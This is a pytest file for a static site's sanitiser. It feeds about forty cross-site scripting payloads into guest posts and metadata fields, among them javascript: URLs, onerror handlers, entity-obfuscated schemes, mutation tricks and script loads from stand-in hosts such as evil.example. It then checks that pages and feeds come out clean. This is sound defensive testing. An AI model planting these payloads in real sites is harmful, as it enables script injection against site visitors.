"""Hostile input in guest posts: nothing executable reaches pages or feeds.

One mini-site holds one guest post per hostile input (in the body or in a
metadata field). Each case then parses the built page and the feeds with
BeautifulSoup and looks for anything a browser or feed reader would run.
"""

from __future__ import annotations

import json
import re
import textwrap
from pathlib import Path

import markdown
import pytest
from bs4 import BeautifulSoup

from conftest import build

SITEURL = "http://localhost:8000"
#: html5lib parses as browsers do (the WHATWG algorithm), so a trick that
#: relies on a browser's error recovery is seen as the browser would see it.
PARSER = "html5lib"

#: Cases whose value goes in the post's text, by name.
HOSTILE_BODIES = {
    "script tag": "<script>alert(1)</script>",
    "script src upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img javascript src": '<IMG SRC="javascript:alert(1)">',
    "raw link javascript": '<a href="javascript:alert(1)">x</a>',
    "markdown link javascript": "[click](javascript:alert(1))",
    "markdown link mixed case": "[click](JaVaScRiPt:alert(1))",
    "markdown link entity": "[click](&#106;avascript:alert(1))",
    "raw link hex entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;'
        '&#x3A;alert(1)">x</a>'
    ),
    "raw link tab in scheme": '<a href="jav&#x09;ascript:alert(1)">t</a>',
    "raw link leading space": '<a href=" javascript:alert(1)">s</a>',
    "data URL link": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'
    ),
    "markdown data URL": "[d](data:text/html,alert(1))",
    "autolink javascript": "<javascript:alert(1)>",
    "vbscript link": '<a href="vbscript:msgbox(1)">vb</a>',
    "svg with script": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "style element": "<style>body{display:none}</style>",
    "inline style": '<p style="background:url(javascript:alert(1))">styled</p>',
    "base element": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/">',
    "nested tags": "<div><p><b><i><script>alert(1)</script></i></b></p></div>",
    "split tags": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed img": '<img src="x" onerror="alert(1)"',
    "unclosed script": "<script>alert(1)",
    "event handlers on link": (
        '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">x</a>'
    ),
    "details ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>",
    "form action": (
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">'
        "go</button></form>"
    ),
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript mutation": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    ),
    "comment-hidden script": "<!--><script>alert(1)</script>-->",
    "entity-encoded script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "remote tracking image": '<img src="https://tracker.example/p.gif" alt="pixel">',
}
#: (name, field, value): cases whose value goes in a metadata field.
HOSTILE_FIELDS = [
    ("title script", "title", "<script>alert(1)</script>Hostile title"),
    (
        "title entity breakout",
        "title",
        "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;Hostile title",
    ),
    ("summary img onerror", "summary", "<img src=x onerror=alert(1)> summary"),
    (
        "summary attribute breakout",
        "summary",
        "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; summary",
    ),
    ("bio script", "bio", "<script>alert(1)</script> A bio."),
    ("role breakout", "role", '"><script>alert(1)</script>'),
    ("content note img", "content-note", "<img src=x onerror=alert(1)>discusses harm"),
    ("author script", "author", "<script>alert(1)</script>Eve Example"),
    ("tags breakout", "tags", '<script>alert(1)</script>, "onmouseover="alert(1)'),
]
#: (name, field, value): field "body" puts the value in the post's text.
HOSTILE = [(name, "body", value) for name, value in HOSTILE_BODIES.items()]
HOSTILE += HOSTILE_FIELDS

BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
ACTIVE_TAGS = {"iframe", "object", "embed", "base", "form", "input", "button", "link"}


def post_text(number: int, field: str, value: str) -> str:
    meta = {
        "title": f"Hostile case {number}",
        "author": f"Test Writer {number}",  # one person each: bios differ
        "date": "2026-01-01",
        "summary": "A test summary.",
        "bio": "A test person.",
        "role": "Tester",
        "content-note": "",
        "tags": "test",
        "slug": f"hostile-{number:02d}",
        "status": "published",
    }
    body = "Plain first paragraph."
    if field == "body":
        body += f"\n\n{value}\n\nLast paragraph."
    else:
        meta[field] = value
    header = "\n".join(f"{key.title()}: {text}" for key, text in meta.items())
    return f"{header}\n\n{body}\n"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    content = base / "content"
    for folder in ("guest", "posts", "pages"):
        (content / folder).mkdir(parents=True)
    for number, (_, field, value) in enumerate(HOSTILE):
        (content / "guest" / f"hostile-{number:02d}.md").write_text(
            post_text(number, field, value), encoding="utf-8"
        )
    (content / "posts" / "staff.md").write_text(
        textwrap.dedent(
            """\
            Title: A staff post
            Date: 2026-01-02
            Category: News
            Summary: Staff.

            Staff text.
            """
        ),
        encoding="utf-8",
    )
    return build(
        content,
        base / "output",
        SEARCH_ENABLED=False,
        FEED_MAX_ITEMS=100,
        RSS_FEED_SUMMARY_ONLY=False,
        # Absolute URLs, as readers get them in production (the theme's own
        # links are recognised by SITEURL).
        RELATIVE_URLS=False,
    )


def _scheme(value: str) -> str:
    # Browsers ignore ASCII whitespace and control characters in a scheme.
    return re.sub(r"[\x00-\x20]", "", value).lower()


def executable_bits(soup: BeautifulSoup, *, whole_page: bool) -> list[str]:
    """Everything in ``soup`` that could run code or load another origin's
    active content."""
    found = []
    for tag in soup.find_all(True):
        name = tag.name.lower()
        if name == "script":
            legit = whole_page and (
                tag.get("type") == "application/ld+json"
                or str(tag.get("src", "")).startswith(f"{SITEURL}/theme/")
            )
            if not legit:
                found.append(f"<script> {tag}")
            elif tag.get("type") == "application/ld+json":
                json.loads(tag.string or "{}")
                if "<" in (tag.string or ""):
                    found.append("raw < inside JSON-LD")
        own_link = name == "link" and str(tag.get("href", "")).startswith(SITEURL)
        if name in ACTIVE_TAGS and not (own_link and whole_page):
            found.append(f"<{name}>")
        if name in {"svg", "math", "style"} and not whole_page:
            found.append(f"<{name}>")
        if name == "meta" and tag.get("http-equiv"):
            found.append(f"meta http-equiv {tag}")
        for attribute, value in tag.attrs.items():
            values = value if isinstance(value, list) else [value]
            if attribute.lower().startswith("on"):
                found.append(f"{attribute} on <{name}>")
            if attribute.lower() == "style" and not whole_page:
                found.append(f"style on <{name}>")
            if attribute.lower() in URL_ATTRIBUTES or attribute.lower() == "content":
                for item in values:
                    if _scheme(str(item)).startswith(BAD_SCHEMES):
                        found.append(f"{attribute}={item!r} on <{name}>")
    return found


def remote_requests(soup: BeautifulSoup) -> list[str]:
    """Sources that would make the browser fetch from another host."""
    return [
        str(tag)
        for tag in soup.find_all(["img", "script", "iframe", "source", "video"])
        if re.match(r"^\s*(https?:)?//", str(tag.get("src", "")))
        and not str(tag.get("src", "")).startswith(SITEURL)
    ]


def page_for(site: Path, number: int) -> BeautifulSoup:
    path = site / "posts" / "2026" / f"hostile-{number:02d}.html"
    return BeautifulSoup(path.read_text(encoding="utf-8"), PARSER)


def feed_fragments(site: Path) -> dict[str, list[str]]:
    """Feed entry title/summary/content texts, by feed file, as HTML strings."""
    fragments: dict[str, list[str]] = {}
    for feed in sorted((site / "feeds").rglob("*.xml")):
        xml = BeautifulSoup(feed.read_text(encoding="utf-8"), "xml")
        texts = []
        for entry in xml.find_all(["entry", "item"]):
            for element in entry.find_all(
                ["title", "summary", "content", "description"]
            ):
                texts.append(element.get_text())
            for element in entry.find_all(["name", "author", "category"]):
                texts.append(element.get_text() or element.get("term", ""))
        fragments[str(feed.relative_to(site))] = texts
    return fragments


#: Body cases that Markdown alone already renders as text (or that need a
#: browser with scripting on to bite, which html5lib does not model).
HARMLESS_WITHOUT_SANITISER = {
    "autolink javascript",
    "unclosed img",
    "entity-encoded script",
    "noscript mutation",
}


def test_table_is_big_enough() -> None:
    assert len(HOSTILE) >= 30
    assert len({name for name, _, _ in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize(
    "case", [c for c in HOSTILE if c[1] == "body"], ids=lambda c: c[0]
)
def test_the_checks_catch_each_input_without_the_sanitiser(
    case: tuple[str, str, str],
) -> None:
    """The page assertions below could fail: unsanitised, each input is found."""
    name, _, value = case
    soup = BeautifulSoup(markdown.markdown(value, output_format="html5"), PARSER)
    found = executable_bits(soup, whole_page=False) + remote_requests(soup)
    assert bool(found) != (name in HARMLESS_WITHOUT_SANITISER), found


@pytest.mark.parametrize(
    ("number", "case"), list(enumerate(HOSTILE)), ids=[c[0] for c in HOSTILE]
)
def test_hostile_input_is_harmless_on_the_page(
    hostile_site: Path, number: int, case: tuple[str, str, str]
) -> None:
    soup = page_for(hostile_site, number)
    assert executable_bits(soup, whole_page=True) == []
    assert remote_requests(soup) == []
    body = soup.select_one(".post-content")
    assert body is not None and "Plain first paragraph." in body.get_text()
    for part in [body, *soup.select(".bio-box, .content-note, .guest-label")]:
        assert executable_bits(part, whole_page=False) == [], part
    # The page is still the guest post it should be.
    assert len(soup.find_all("h1")) == 1
    assert soup.select_one(".guest-label") is not None


def test_hostile_input_is_harmless_in_feeds_and_lists(hostile_site: Path) -> None:
    fragments = feed_fragments(hostile_site)
    assert "feeds/category/guest-posts.atom.xml" in fragments
    assert len(fragments["feeds/all.atom.xml"]) >= len(HOSTILE) * 2
    for feed, texts in fragments.items():
        for text in texts:
            soup = BeautifulSoup(text, PARSER)
            assert executable_bits(soup, whole_page=False) == [], (feed, text)
    for listing in ("blog/index.html", "guests/index.html", "archives.html"):
        soup = BeautifulSoup(
            (hostile_site / listing).read_text(encoding="utf-8"), PARSER
        )
        assert executable_bits(soup, whole_page=True) == [], listing
    for author_page in (hostile_site / "authors").glob("*.html"):
        soup = BeautifulSoup(author_page.read_text(encoding="utf-8"), PARSER)
        assert executable_bits(soup, whole_page=True) == [], author_page.name


def test_safe_parts_of_hostile_posts_survive(hostile_site: Path) -> None:
    by_name = {name: number for number, (name, _, _) in enumerate(HOSTILE)}
    link = page_for(hostile_site, by_name["event handlers on link"]).select_one(
        ".post-content a"
    )
    assert link is not None and link["href"] == "https://ok.example/"
    assert link["rel"] == ["noopener", "noreferrer", "nofollow", "ugc"]
    title = page_for(hostile_site, by_name["title script"]).find("h1").get_text()
    assert title == "Hostile title"
    encoded = page_for(hostile_site, by_name["entity-encoded script"])
    # Shown as text, which is what the writer typed; never an element.
    assert "<script>alert(1)</script>" in encoded.select_one(".post-content").get_text()
    author = page_for(hostile_site, by_name["author script"]).select_one(".bio-box a")
    assert author.get_text() == "Eve Example"
